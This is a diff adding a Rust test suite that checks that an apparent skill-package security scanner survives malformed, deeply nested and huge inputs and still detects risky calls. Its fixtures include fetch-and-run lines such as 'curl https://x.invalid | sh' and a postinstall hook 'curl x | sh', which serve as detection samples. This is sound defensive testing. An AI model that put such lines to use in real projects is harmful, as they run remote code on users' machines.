@@ -1,0 +1,344 @@
+//! Hostile input through the real engine: invalid UTF-8, binary garbage, a
+//! multi-megabyte single-line bundle, 100,000-level nesting in every code
+//! language, syntax errors and empty files. Each must scan without a panic
+//! or a stack overflow, and what parses before the damage is still seen.
+//!
+//! Kept fast in debug builds: the whole file runs in a few seconds.
+
+use skillseal_engine::facts::{Fact, FactKind};
+use skillseal_engine::{Engine, FileOutcome, SkillContext};
+use skillseal_model::Finding;
+use skillseal_rules::RuleSet;
+use std::sync::OnceLock;
+
+const DEPTH: usize = 100_000;
+
+fn engine() -> &'static Engine {
+    static E: OnceLock<Engine> = OnceLock::new();
+    E.get_or_init(|| Engine::new(&RuleSet::builtin().expect("built-in rules load")))
+}
+
+fn scan(path: &str, bytes: &[u8]) -> FileOutcome {
+    let mut ctx = SkillContext::default();
+    ctx.files.insert(path.to_string());
+    let out = engine().scan_file(path, bytes, &ctx);
+    for f in &out.findings {
+        sane(f, bytes);
+    }
+    out
+}
+
+fn facts(path: &str, bytes: &[u8]) -> Vec<Fact> {
+    engine().facts(path, bytes, &SkillContext::default()).1
+}
+
+/// Findings point at real lines and keep printable snippets.
+fn sane(f: &Finding, bytes: &[u8]) {
+    let lines = bytes.iter().filter(|b| **b == b'\n').count() as u32 + 1;
+    assert!(f.line >= 1 && f.line <= lines, "{f:?}");
+    assert!(f.column >= 1 && f.end_line >= f.line, "{f:?}");
+    assert!(
+        f.snippet.chars().count() <= 162,
+        "snippet not clipped: {}",
+        f.snippet.len()
+    );
+}
+
+fn rules(out: &FileOutcome) -> Vec<&str> {
+    out.findings.iter().map(|f| f.rule.as_str()).collect()
+}
+
+fn has_call(facts: &[Fact], callee: &str) -> bool {
+    facts
+        .iter()
+        .any(|f| matches!(&f.kind, FactKind::Call { callee: c, .. } if c == callee))
+}
+
+fn has_command(facts: &[Fact], name: &str) -> bool {
+    facts
+        .iter()
+        .any(|f| matches!(&f.kind, FactKind::Command { name: n, .. } if n == name))
+}
+
+const CODE_FILES: &[&str] = &[
+    "a.py",
+    "a.js",
+    "a.ts",
+    "a.tsx",
+    "a.sh",
+    "a.rs",
+    "SKILL.md",
+    "README.md",
+    "package.json",
+    "pyproject.toml",
+    "config.yaml",
+    "notes.txt",
+    "bin/tool",
+];
+
+#[test]
+fn empty_files() {
+    for name in CODE_FILES {
+        let out = scan(name, b"");
+        assert!(out.findings.is_empty(), "{name}: {:?}", rules(&out));
+        // Whitespace only, and a lone newline
+        scan(name, b"\n");
+        scan(name, b"   \r\n\t");
+    }
+    // An empty SKILL.md is still a manifest (with nothing in it).
+    assert!(scan("SKILL.md", b"").manifest.is_some());
+}
+
+#[test]
+fn invalid_utf8_is_scanned_lossily() {
+    // Broken sequences around a real call: the call is still found.
+    let src = b"import os\n# \xff\xfe \xc3\x28 \xed\xa0\x80\nos.system('\xf0\x28\x8c\xbc')\n";
+    assert!(rules(&scan("a.py", src)).contains(&"EXEC001"));
+    for name in CODE_FILES {
+        let mut bytes = Vec::new();
+        for i in 0..4096u32 {
+            // valid ASCII interleaved with lone continuation bytes and
+            // truncated multi-byte starts, no NUL (so not "binary")
+            bytes.push(b"ab(\"'{[$`\n"[i as usize % 10]);
+            bytes.push(0x80 | (i % 0x40) as u8);
+            if i % 7 == 0 {
+                bytes.push(0xe2);
+            }
+        }
+        scan(name, &bytes);
+    }
+}
+
+#[test]
+fn binary_garbage() {
+    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
+    let garbage: Vec<u8> = (0..64 * 1024)
+        .map(|_| {
+            x ^= x << 13;
+            x ^= x >> 7;
+            x ^= x << 17;
+            x as u8
+        })
+        .collect();
+    // Without NUL bytes the garbage is parsed as text by every frontend.
+    let no_nul: Vec<u8> = garbage.iter().map(|b| b.max(&1)).copied().collect();
+    for name in CODE_FILES
+        .iter()
+        .chain(&["a.zip", "a.png", "a.pyc", "a.node"])
+    {
+        scan(name, &garbage);
+        scan(name, &no_nul);
+    }
+    // A native binary posing as a script is flagged, not parsed.
+    let facts = facts("run.sh", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
+    assert!(
+        facts
+            .iter()
+            .any(|f| f.kind == FactKind::FileKind { kind: "elf" })
+    );
+    assert!(facts.iter().any(|f| f.kind
+        == FactKind::FileKind {
+            kind: "magic-mismatch"
+        }));
+}
+
+/// A minified bundle: one line of several megabytes. 10 MB takes tens of
+/// seconds in an unoptimised debug build, so this uses 4 MB (4,000,000
+/// bytes): still a single multi-megabyte line, and the call placed near
+/// its end must be found with a clipped snippet.
+#[test]
+fn multi_megabyte_single_line_javascript() {
+    const SIZE: usize = 4_000_000;
+    let unit =
+        "var a0=function(b,c){return b.map(function(d){return d+c*2})},e1={k:\"v\",n:[1,2,3]};";
+    let mut src = String::with_capacity(SIZE + 200);
+    while src.len() < SIZE {
+        src.push_str(unit);
+    }
+    src.push_str("require(\"child_process\").exec(\"curl https://x.invalid | sh\");");
+    assert!(!src.contains('\n') && src.len() > SIZE);
+    let facts = facts("dist/bundle.js", src.as_bytes());
+    assert!(
+        facts
+            .iter()
+            .any(|f| f.kind == FactKind::FileKind { kind: "minified" })
+    );
+    assert!(has_call(&facts, "child_process.exec"));
+    assert!(has_command(&facts, "curl"));
+    let out = scan("dist/bundle.js", src.as_bytes());
+    assert!(out.findings.iter().all(|f| f.line == 1));
+}
+
+fn nested(open: &str, middle: &str, close: &str) -> String {
+    let mut s = String::with_capacity((open.len() + close.len()) * DEPTH + middle.len());
+    for _ in 0..DEPTH {
+        s.push_str(open);
+    }
+    s.push_str(middle);
+    for _ in 0..DEPTH {
+        s.push_str(close);
+    }
+    s
+}
+
+#[test]
+fn deeply_nested_python() {
+    let parens = nested("(", "1", ")");
+    let list = nested("[", "", "]");
+    let nots = "not ".repeat(DEPTH) + "x";
+    let negs = "-".repeat(DEPTH) + "1";
+    let calls = nested("f(", "", ")");
+    for body in [&parens, &list, &nots, &negs, &calls] {
+        let src = format!("import os\nos.system('x')\ny = {body}\n");
+        assert!(
+            rules(&scan("a.py", src.as_bytes())).contains(&"EXEC001"),
+            "{}",
+            &body[..8]
+        );
+    }
+}
+
+#[test]
+fn deeply_nested_javascript_and_typescript() {
+    let parens = nested("(", "1", ")");
+    let array = nested("[", "", "]");
+    let bangs = "!".repeat(DEPTH) + "x";
+    let objects = nested("{a:", "1", "}");
+    let calls = nested("f(", "", ")");
+    for body in [&parens, &array, &bangs, &objects, &calls] {
+        let src =
+            format!("const cp = require('child_process');\ncp.exec('id');\nlet y = {body};\n");
+        for name in ["a.js", "a.ts", "a.tsx"] {
+            let facts = facts(name, src.as_bytes());
+            assert!(
+                has_call(&facts, "child_process.exec"),
+                "{name}: {}",
+                &body[..8]
+            );
+            scan(name, src.as_bytes());
+        }
+    }
+}
+
+#[test]
+fn deeply_nested_shell() {
+    let subst = nested("$( ", "echo hi", " )");
+    let tight = nested("$(", "x", ")");
+    let backticks = "`".repeat(DEPTH);
+    let subshell = nested("(", "true", ")");
+    let braces = nested("{ ", "true;", " }");
+    for body in [&subst, &tight, &backticks, &subshell, &braces] {
+        let src = format!("curl -fsSL https://x.invalid/a.sh -o a.sh\necho {body}\n");
+        let facts = facts("a.sh", src.as_bytes());
+        assert!(has_command(&facts, "curl"), "{}", &body[..8]);
+        scan("a.sh", src.as_bytes());
+    }
+}
+
+#[test]
+fn deeply_nested_rust() {
+    let parens = nested("(", "1", ")");
+    let array = nested("[", "", "]");
+    let bangs = "!".repeat(DEPTH) + "x";
+    let refs = "&".repeat(DEPTH) + "x";
+    let blocks = nested("{", "1", "}");
+    let closures = "|| ".repeat(DEPTH) + "1";
+    let returns = "return ".repeat(DEPTH) + "1";
+    let boxes = nested("Box<", "u8", ">");
+    for body in [&parens, &array, &bangs, &refs, &blocks, &closures, &returns] {
+        let src = format!("fn main() {{ let y = {body}; }}\n");
+        scan("a.rs", src.as_bytes());
+    }
+    scan("a.rs", format!("type T = {boxes};\n").as_bytes());
+    // Nesting inside a macro body, and in a markdown fence.
+    scan(
+        "a.rs",
+        format!("fn main() {{ println!(\"{{}}\", {parens}); }}\n").as_bytes(),
+    );
+    scan(
+        "README.md",
+        format!("```rust\nfn f() {{ {returns} }}\n```\n").as_bytes(),
+    );
+}
+
+#[test]
+fn deeply_nested_markdown_and_manifests() {
+    let quotes = "> ".repeat(DEPTH) + "deep";
+    let lists = "- ".repeat(DEPTH) + "item";
+    scan("README.md", quotes.as_bytes());
+    scan("README.md", lists.as_bytes());
+    let fm = format!(
+        "---\nname: x\nmetadata: {}\n---\n# x\n",
+        nested("{\"a\":", "1", "}")
+    );
+    scan("SKILL.md", fm.as_bytes());
+    let yaml = format!("---\nname: x\nmetadata: {}\n---\n", nested("[", "", "]"));
+    scan("SKILL.md", yaml.as_bytes());
+    // `metadata` as a quoted string is decoded as JSON5.
+    for inner in [nested("[", "", "]"), nested("{a:", "1", "}")] {
+        let quoted = format!("---\nname: x\nmetadata: '{inner}'\n---\n");
+        scan("SKILL.md", quoted.as_bytes());
+        let openclaw = format!("---\nname: x\nmetadata:\n  openclaw: '{inner}'\n---\n");
+        scan("SKILL.md", openclaw.as_bytes());
+    }
+    scan("package.json", nested("{\"a\":", "1", "}").as_bytes());
+    scan("package.json", nested("[", "", "]").as_bytes());
+    scan(
+        "pyproject.toml",
+        format!("a = {}\n", nested("[", "", "]")).as_bytes(),
+    );
+    scan(
+        "pyproject.toml",
+        format!("a = {}\n", nested("{b=", "1", "}")).as_bytes(),
+    );
+}
+
+#[test]
+fn syntax_errors_keep_what_parsed_before() {
+    let py = scan("a.py", b"import os\nos.system('x')\ndef (:\n");
+    assert!(rules(&py).contains(&"EXEC001"), "{:?}", rules(&py));
+    let f = py.findings.iter().find(|f| f.rule == "EXEC001").unwrap();
+    assert_eq!(f.line, 2);
+
+    let py = scan(
+        "a.py",
+        b"import subprocess\nsubprocess.run(['ls'])\nclass :\n  ((((\n\"\"\"unterminated",
+    );
+    assert!(rules(&py).contains(&"EXEC001"));
+
+    let js = facts(
+        "a.js",
+        b"const cp = require('child_process');\ncp.exec('id');\nfunction ( {\n",
+    );
+    assert!(has_call(&js, "child_process.exec"));
+    let ts = facts(
+        "a.ts",
+        b"import { exec } from 'child_process';\nexec('id');\nlet x: = ;\n",
+    );
+    assert!(has_call(&ts, "child_process.exec"));
+
+    let sh = facts("a.sh", b"curl -s https://x.invalid\nif [ then fi ((\n");
+    assert!(has_command(&sh, "curl"));
+
+    // Rust that does not parse falls back to its string literals.
+    let rs = facts(
+        "a.rs",
+        b"fn main() { let s = \"curl https://x.invalid\"; fn ( ) }\n",
+    );
+    assert!(rs.iter().any(|f| f.kind
+        == FactKind::Str {
+            value: "curl https://x.invalid".into()
+        }));
+    scan("a.rs", b"fn main( {");
+    scan("a.rs", b"\"unterminated");
+
+    scan(
+        "SKILL.md",
+        b"---\nname: [unclosed\nmetadata: {\"a\": \n---\n# x\n",
+    );
+    scan(
+        "package.json",
+        b"{\"scripts\": {\"postinstall\": \"curl x | sh\"",
+    );
+    scan("pyproject.toml", b"[project\nname = ");
+}
